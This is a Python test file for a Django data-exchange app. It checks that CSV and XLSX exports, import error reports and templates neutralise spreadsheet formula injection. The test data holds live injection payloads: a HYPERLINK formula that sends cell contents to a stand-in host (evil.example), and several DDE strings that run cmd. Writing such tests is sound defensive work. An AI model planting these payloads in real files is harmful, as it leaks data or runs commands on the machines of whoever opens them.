"""Formula injection (security issue item 4): text that a spreadsheet would run as a formula leaves the
system as text, in every .xlsx and .csv we write; numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from wangge.core.cells import csv_row, xlsx_row
from wangge.exchange import files
from wangge.exchange.columns import PLACES
from wangge.registry.models import KeyGroup, Place

from .conftest import csv_bytes, upload

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
PLACE_HEADERS = ["名称", "统一社会信用代码", "类别", "证照状态", "经营者", "联系电话", "地址", "楼栋编码"]
EVIL_VALUES = {
    "name": EVIL,
    "kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "operator": "+1+cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
}


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _seed_places(api) -> None:
    rows = [
        PLACE_HEADERS,
        [
            EVIL_VALUES["name"],
            "",
            EVIL_VALUES["kind"],
            "有效",
            EVIL_VALUES["operator"],
            "",
            EVIL_VALUES["address"],
            "B111",
        ],
        ["＝1+1", "", "零售", "", "", "", "幸福路1号", "B111"],
    ]
    resp = api.post(
        "/api/v1/imports/", {"kind": "places", "file": upload("p.csv", csv_bytes(rows))}, format="multipart"
    )
    assert resp.status_code == 201 and resp.json()["created_rows"] == 2, resp.content
    assert Place.objects.filter(name=EVIL).exists()  # stored as typed; only the way out is neutralised


def _body(resp) -> bytes:
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


def test_xlsx_export_has_no_formula(world, places, api_for):
    api = api_for(world.users.community1)
    _seed_places(api)
    resp = api.get("/api/v1/exports/places/?format=xlsx")
    assert resp.status_code == 200
    content = _body(resp)
    assert "<f>" not in _sheet_xml(content)
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {c.value: c.data_type for row in ws.iter_rows(min_row=2) for c in row if c.value is not None}
    for value in [*EVIL_VALUES.values(), "＝1+1"]:
        assert cells[value] == "s", (value, cells)  # text, exactly as typed, not a formula


def test_csv_export_quotes_formula_text(world, places, api_for):
    api = api_for(world.users.community1)
    _seed_places(api)
    resp = api.get("/api/v1/exports/places/?format=csv")
    rows = list(csv.reader(io.StringIO(_body(resp).decode("utf-8-sig"))))
    assert rows[0] == PLACES.headers
    cells = [c for r in rows[1:] for c in r]
    for value in [*EVIL_VALUES.values(), "＝1+1"]:
        assert "'" + value in cells, value
        assert value not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "＝")) for c in cells)


def test_csv_export_reimports_to_the_same_text(world, places, api_for):
    api = api_for(world.users.community1)
    _seed_places(api)
    content = _body(api.get("/api/v1/exports/places/?format=csv"))
    resp = api.post(
        "/api/v1/imports/", {"kind": "places", "file": upload("p.csv", content)}, format="multipart"
    )
    job = resp.json()
    assert (job["created_rows"], job["updated_rows"], job["error_rows"]) == (0, 2, 0), job["message"]
    assert Place.objects.filter(name=EVIL, address=EVIL_VALUES["address"]).count() == 1
    assert not Place.objects.filter(name__startswith="'").exists()


def test_error_report_echoes_formula_as_text(world, places, api_for):
    api = api_for(world.users.community1)
    rows = [PLACE_HEADERS, ["店", "", "", "", "", "", "", EVIL]]  # unknown building code: an error row
    resp = api.post(
        "/api/v1/imports/", {"kind": "places", "file": upload("p.csv", csv_bytes(rows))}, format="multipart"
    )
    job = resp.json()
    assert job["error_rows"] == 1 and job["error_report_url"], job
    report = _body(api.get(f"/api/v1/imports/{job['id']}/errors/"))
    assert "<f>" not in _sheet_xml(report)
    values = [c for row in load_workbook(io.BytesIO(report)).worksheets[0].iter_rows(min_row=2) for c in row]
    echoed = [c for c in values if c.value == EVIL]
    assert echoed and all(c.data_type == "s" for c in echoed)


def test_template_with_admin_edited_names_has_no_formula(world, api_for):
    KeyGroup.objects.create(code="evil", name=EVIL, kind=KeyGroup.Kind.SET)
    resp = api_for(world.users.community1).get("/api/v1/imports/templates/residents/")
    assert resp.status_code == 200
    xml = _sheet_xml(resp.content)
    assert "<f>" not in xml and "HYPERLINK" in xml


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("a=1", "a=1"),
        (-5, -5),
        (-0.5, -0.5),
        (None, ""),
    ],
)
def test_csv_cells(value, expected):
    assert csv_row([value]) == [expected]


def test_xlsx_numbers_stay_numbers():
    buf = io.BytesIO()
    wb = files.Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(xlsx_row(ws, [-5, -0.5, "-5", "=1+1", "ok"]))
    wb.save(buf)
    row = next(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (-5, "n"),
        (-0.5, "n"),
        ("-5", "s"),
        ("=1+1", "s"),
        ("ok", "s"),
    ]
